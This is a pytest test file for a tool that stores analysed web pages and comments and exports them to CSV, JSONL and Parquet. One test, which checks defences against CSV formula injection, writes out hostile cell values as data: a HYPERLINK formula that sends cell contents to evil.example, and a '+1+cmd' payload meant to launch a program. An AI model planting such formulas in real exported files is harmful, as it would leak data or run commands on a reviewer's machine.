import csv
import json

import pytest

from storytrace.records import Comment, Failure, Page
from storytrace.store import SQLiteStore, export


def _page(pid="a" * 16, source="one.html", comments=1):
    return Page(
        id=pid, source=source, title="T", body=["p1", "p2"],
        comments=[Comment(id=f"{pid}-c{i}", text=f"c{i}", position=i) for i in range(comments)],
    )


def test_store_rerun_adds_no_duplicates_and_accounts_for_every_input(tmp_path):
    path = tmp_path / "s.sqlite"
    batch = [_page(), _page("b" * 16, "two.html"), Failure("bad.bin", "ingest", "InputError", "binary data")]
    for _ in range(2):
        with SQLiteStore(path) as store:
            store.add(batch)
    with SQLiteStore(path) as store:
        assert store.counts() == {"pages": 2, "analysed": 2, "failed": 1}
        assert [(i["source"], i["status"]) for i in store.inputs()] == [
            ("bad.bin", "failed"), ("one.html", "analysed"), ("two.html", "analysed"),
        ]
        assert store.failures()[0].message == "binary data"
        assert [p.id for p in store.pages()] == ["a" * 16, "b" * 16]


def test_store_round_trips_a_page(tmp_path):
    page = _page(comments=3)
    page.comments[1].parent_id = page.comments[0].id
    with SQLiteStore(":memory:") as store:
        store.add([page])
        (back,) = store.pages()
    assert back == page


def test_store_failed_input_that_later_succeeds_is_analysed(tmp_path):
    with SQLiteStore(":memory:") as store:
        store.add([Failure("one.html", "anatomy", "InputError", "deep")])
        store.add([_page()])
        assert store.counts() == {"pages": 1, "analysed": 1, "failed": 0}


@pytest.mark.parametrize(("fmt", "table", "rows"), [("jsonl", "pages", 2), ("csv", "pages", 2), ("csv", "comments", 3)])
def test_export_formats(tmp_path, fmt, table, rows):
    pages = [_page(comments=2), _page("b" * 16, "two.html", comments=1)]
    out = tmp_path / f"x.{fmt}"
    assert export(pages, out, fmt, table=table) == rows
    if fmt == "jsonl":
        assert [json.loads(line)["id"] for line in out.read_text().splitlines()] == ["a" * 16, "b" * 16]
    else:
        assert len(list(csv.DictReader(out.open()))) == rows


def test_export_parquet(tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    out = tmp_path / "x.parquet"
    export([_page(comments=2)], out, "parquet", table="comments")
    assert pq.read_table(out).num_rows == 2


def test_export_unknown_format_is_an_error(tmp_path):
    with pytest.raises(ValueError, match="choose one of jsonl, csv, csv-excel, parquet"):
        export([], tmp_path / "x", "xml")


def test_store_changed_input_replaces_its_old_page(tmp_path):
    with SQLiteStore(":memory:") as store:
        store.add([_page("a" * 16, "s.html"), _page("c" * 16, "other.html")])
        store.add([_page("b" * 16, "s.html")])  # s.html was edited
        assert {p.id for p in store.pages()} == {"b" * 16, "c" * 16}
        assert store.counts() == {"pages": 2, "analysed": 2, "failed": 0}
        store.add([Failure("s.html", "ingest", "InputError", "now empty")])
        assert {p.id for p in store.pages()} == {"c" * 16}


def test_store_keeps_the_earlier_versions_of_an_edited_input(tmp_path):
    # a stealth edit is what a researcher archives a page for: the replaced version must not vanish
    with SQLiteStore(":memory:") as store:
        store.add([_page("a" * 16, "s.html"), _page("c" * 16, "other.html")])
        store.add([_page("a" * 16, "s.html")])  # re-run, same content: nothing replaced
        assert list(store.replaced_pages()) == []
        store.add([_page("b" * 16, "s.html")])  # edited
        store.add([Failure("s.html", "ingest", "InputError", "now empty")])  # then emptied
        replaced = [(p.id, when["replaced_by"]) for p, when in store.replaced_pages()]
        assert replaced == [("a" * 16, "b" * 16), ("b" * 16, None)]
        assert store.counts() == {"pages": 1, "analysed": 1, "failed": 1}


def test_export_of_replaced_versions_names_what_replaced_them(tmp_path):
    from storytrace.cli import main

    db = tmp_path / "s.sqlite"
    with SQLiteStore(db) as store:
        store.add([_page("a" * 16, "s.html")])
        store.add([_page("b" * 16, "s.html")])
    out = tmp_path / "replaced.csv"
    assert main(["export", "--db", str(db), "--table", "replaced", "--format", "csv", "--out", str(out)]) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [(r["id"], r["replaced_by"]) for r in rows] == [("a" * 16, "b" * 16)]
    assert rows[0]["replaced_at"] and rows[0]["stored_at"]


def test_store_page_shared_by_two_inputs_stays_while_one_points_to_it():
    with SQLiteStore(":memory:") as store:
        store.add([_page("a" * 16, "one.html"), _page("a" * 16, "copy.html")])
        store.add([_page("b" * 16, "one.html")])
        assert {p.id for p in store.pages()} == {"a" * 16, "b" * 16}


def test_export_jsonl_comments_table_writes_one_record_per_comment(tmp_path):
    pages = [_page(comments=2), _page("b" * 16, "two.html", comments=1)]
    out = tmp_path / "c.jsonl"
    assert export(pages, out, "jsonl", table="comments") == 3
    records = [json.loads(line) for line in out.read_text().splitlines()]
    assert [(r["page_id"], r["id"], r["text"]) for r in records] == [
        ("a" * 16, "a" * 16 + "-c0", "c0"), ("a" * 16, "a" * 16 + "-c1", "c1"), ("b" * 16, "b" * 16 + "-c0", "c0"),
    ]


def test_store_opened_for_reading_refuses_a_missing_or_foreign_file(tmp_path):
    from storytrace.errors import InputError

    with pytest.raises(InputError, match="no such store"):
        SQLiteStore(tmp_path / "typo.sqlite", create=False)
    assert not (tmp_path / "typo.sqlite").exists()
    (tmp_path / "notes.txt").write_text("not a database, just some notes about the run\n" * 20)
    with pytest.raises(InputError, match="not a storytrace store"):
        SQLiteStore(tmp_path / "notes.txt", create=False)


def test_reading_another_sqlite_database_adds_no_table(tmp_path):
    import sqlite3

    from storytrace.errors import InputError

    other = tmp_path / "notes.sqlite"
    with sqlite3.connect(other) as db:
        db.execute("CREATE TABLE notes (text TEXT)")
    with pytest.raises(InputError, match="not a storytrace store"):
        SQLiteStore(other, create=False)
    with sqlite3.connect(other) as db:
        assert [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")] == ["notes"]


def _analysed_page():
    comment = Comment(id="p-c0", text="you can simply disable it", position=0, author="Chris", parent_id=None,
                      published="2021-06-01T10:02:00", language="en",
                      scores={"toxic": 0.6, "identity_attack": 0.6, "insult": 0.01},
                      targets=["Disabled people"], flags=["duplicate", "laughter"],
                      evidence=[{"start": 15, "end": 22, "text": "disable", "category": "identity_attack"}],
                      decoded=[{"span": "disable", "start": 15, "end": 22, "decoded": "disabled", "kind": "spelling"}])
    return Page(id="a" * 16, source="one.html", url="https://x.example/a", kind="html", site="x.example",
                title="T", author="Ann Lee", language="en", published="2021-06-01", body=["p"], comments=[comment],
                warnings=["w1"], facts={"topics": [{"id": "medtop:11000000", "name": "politics", "score": 0.7}]},
                thread={"comments": 1, "toxic_comments": ["p-c0"], "toxic_share": 1.0, "calibration": "news_comments"})


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_export_flat_tables_carry_what_a_reviewer_needs(tmp_path, fmt):
    pd = pytest.importorskip("pandas")
    if fmt == "parquet":
        pytest.importorskip("pyarrow")
    read = pd.read_csv if fmt == "csv" else pd.read_parquet
    export([_analysed_page()], tmp_path / f"p.{fmt}", fmt, table="pages")
    export([_analysed_page()], tmp_path / f"c.{fmt}", fmt, table="comments")
    [page] = read(tmp_path / f"p.{fmt}").to_dict("records")
    assert (page["site"], page["author"], page["kind"], page["topics"]) == ("x.example", "Ann Lee", "html",
                                                                             "medtop:11000000")
    assert (page["n_toxic_comments"], page["toxic_share"], page["calibration"]) == (1, 1.0, "news_comments")
    assert page["warnings"] == "w1"
    [comment] = read(tmp_path / f"c.{fmt}").to_dict("records")
    assert comment["score_toxic"] == 0.6 and comment["score_identity_attack"] == 0.6 and comment["score_insult"] == 0.01
    assert pd.isna(comment["score_threat"])  # not scored, not zero
    assert (comment["targets"], comment["flags"], comment["published"]) == ("Disabled people", "duplicate, laughter",
                                                                            "2021-06-01T10:02:00")
    assert comment["decoded"] == "disable -> disabled" and comment["evidence"] == "identity_attack: disable"


def test_export_parquet_columns_have_fixed_types_even_when_empty(tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    export([_page(comments=0)], tmp_path / "c.parquet", "parquet", table="comments")
    export([_page(comments=1)], tmp_path / "d.parquet", "parquet", table="comments")
    empty, full = pq.read_schema(tmp_path / "c.parquet"), pq.read_schema(tmp_path / "d.parquet")
    assert empty.equals(full) and str(full.field("score_toxic").type) == "double"
    assert str(full.field("errors" if "errors" in full.names else "text").type) == "string"


def test_export_score_columns_match_the_comment_model_categories():
    from storytrace.comments._model import CATEGORIES
    from storytrace.store.export import SCORE_CATEGORIES

    assert SCORE_CATEGORIES == CATEGORIES


def _story(pages=("a" * 16, "b" * 16)):
    comparison = {"counts": {"agree": 3, "contradict": 1, "possible": 0, "added": 2, "dropped": 0},
                  "contradict": [{"base": "35 tenders", "other": "350 tenders", "reasons": ["numbers differ: 35 vs 350"]}]}
    return {"id": "5" * 16, "title": "Fire in Delhi", "languages": ["en"], "similarity": 0.9,
            "pages": [{"id": p, "title": "Fire"} for p in pages],
            "relations": [{"type": "copy", "page": pages[1], "based_on": pages[0], "direction": "date",
                           "evidence": {"similarity": 0.99, "shingle_jaccard": 0.91}, "comparison": comparison}]}


def test_store_keeps_stories_and_a_rerun_replaces_them(tmp_path):
    with SQLiteStore(tmp_path / "s.sqlite") as store:
        store.add_stories([_story()])
        store.add_stories([_story() | {"title": "Fire in Delhi, again"}])
    with SQLiteStore(tmp_path / "s.sqlite", create=False) as store:
        assert [s["title"] for s in store.stories()] == ["Fire in Delhi, again"]


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl"])
def test_export_stories_and_relations_tables(tmp_path, fmt):
    from storytrace.store import export_stories

    pd = pytest.importorskip("pandas")
    if fmt == "parquet":
        pytest.importorskip("pyarrow")
    assert export_stories([_story()], tmp_path / f"s.{fmt}", fmt, table="stories") == 1
    assert export_stories([_story()], tmp_path / f"r.{fmt}", fmt, table="relations") == 1
    if fmt == "jsonl":
        story, relation = (json.loads((tmp_path / f"{t}.jsonl").read_text()) for t in "sr")
        assert story["id"] == "5" * 16 and relation["story_id"] == "5" * 16 and relation["type"] == "copy"
        return
    read = pd.read_csv if fmt == "csv" else pd.read_parquet
    [story], [relation] = read(tmp_path / f"s.{fmt}").to_dict("records"), read(tmp_path / f"r.{fmt}").to_dict("records")
    assert (story["n_pages"], story["page_ids"], story["n_contradictions"]) == (2, f"{'a' * 16}; {'b' * 16}", 1)
    assert (relation["type"], relation["page"], relation["based_on"], relation["contradict"]) == (
        "copy", "b" * 16, "a" * 16, 1)
    assert relation["contradictions"] == "numbers differ: 35 vs 350" and relation["similarity"] == 0.99


def test_cli_analyze_stores_its_stories_for_export(tmp_path, monkeypatch):
    from storytrace import pipeline
    from storytrace.cli import main
    from tests.conftest import GOOD_HTML

    monkeypatch.setattr(pipeline, "tell_stories", lambda *a, **k: [_story()])
    (tmp_path / "a.html").write_text(GOOD_HTML, encoding="utf-8")
    out = tmp_path / "out"
    assert main(["analyze", str(tmp_path / "a.html"), "--out", str(out), "--quiet", "--no-facts", "--no-comments"]) == 0
    assert main(["export", "--db", str(out / "storytrace.sqlite"), "--table", "relations", "--format", "csv",
                 "--out", str(tmp_path / "r.csv")]) == 0
    assert len(list(csv.DictReader((tmp_path / "r.csv").open()))) == 1


def test_store_gives_back_a_page_only_for_the_analysis_it_was_made_with(tmp_path):
    with SQLiteStore(tmp_path / "s.sqlite") as store:
        store.add([_page()], analysis="k1")
        store.add([_page("b" * 16, "two.html")])  # no key: never given back
        assert store.analysed_page("a" * 16, "k1") == _page()
        assert store.analysed_page("a" * 16, "k2") is None
        assert store.analysed_page("b" * 16, "k1") is None
        assert store.analysed_page("c" * 16, "k1") is None


def test_store_written_before_analysis_keys_opens_and_reuses_nothing(tmp_path):
    import sqlite3

    path = tmp_path / "old.sqlite"
    with sqlite3.connect(path) as db:  # the pages table as sessions before 14 wrote it
        db.executescript(
            "CREATE TABLE pages (id TEXT PRIMARY KEY, source TEXT NOT NULL, url TEXT, title TEXT, language TEXT, "
            "n_comments INTEGER NOT NULL, record TEXT NOT NULL, schema_version TEXT NOT NULL, updated_at TEXT NOT NULL);"
        )
        db.execute("INSERT INTO pages VALUES (?,?,?,?,?,?,?,?,?)",
                   ("a" * 16, "one.html", None, "T", None, 0, json.dumps(_page().as_dict()), "2.0", "now"))
    with SQLiteStore(path, create=False) as store:  # reading (export) leaves the file as it is
        assert [p.id for p in store.pages()] == ["a" * 16]
    with SQLiteStore(path) as store:
        assert store.analysed_page("a" * 16, "k1") is None
        store.add([_page()], analysis="k1")
        assert store.analysed_page("a" * 16, "k1") == _page()


def test_csv_cells_from_a_page_never_start_a_spreadsheet_formula(tmp_path):
    # a comment or name written as a formula (=HYPERLINK(...), @SUM, +1+cmd) runs when a reviewer opens the CSV in a
    # spreadsheet: such cells get a leading apostrophe (OWASP CSV injection); JSONL keeps the text as written
    page = _page(comments=3)
    page.title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"
    page.comments[0].text, page.comments[0].author = "+1+cmd|' /C calc'!A0", "@SUM(1+1)"
    page.comments[1].text = "-2+3"
    page.comments[2].text = "a plain comment - with a dash"
    export([page], tmp_path / "p.csv", "csv", table="pages")
    export([page], tmp_path / "c.csv", "csv", table="comments")
    (row,) = csv.DictReader((tmp_path / "p.csv").open())
    assert row["title"] == "'" + page.title and row["n_comments"] == "3"
    rows = list(csv.DictReader((tmp_path / "c.csv").open()))
    assert [r["text"] for r in rows] == ["'+1+cmd|' /C calc'!A0", "'-2+3", "a plain comment - with a dash"]
    assert rows[0]["author"] == "'@SUM(1+1)" and rows[0]["position"] == "0"
    export([page], tmp_path / "c.jsonl", "jsonl", table="comments")
    assert json.loads((tmp_path / "c.jsonl").read_text().splitlines()[1])["text"] == "-2+3"


def test_csv_excel_export_starts_with_a_byte_order_mark_and_plain_csv_does_not(tmp_path):
    """Excel reads a CSV without a BOM in the machine's code page (Arabic and Cyrillic comments garbled)."""
    from storytrace.store import export_stories

    export_stories([_story()], tmp_path / "plain.csv", "csv", table="stories")
    export_stories([_story() | {"title": "Пожар в Дели"}], tmp_path / "excel.csv", "csv-excel", table="stories")
    assert not (tmp_path / "plain.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    excel = (tmp_path / "excel.csv").read_bytes()
    assert excel.startswith(b"\xef\xbb\xbfstory_id,") and "Пожар в Дели".encode() in excel
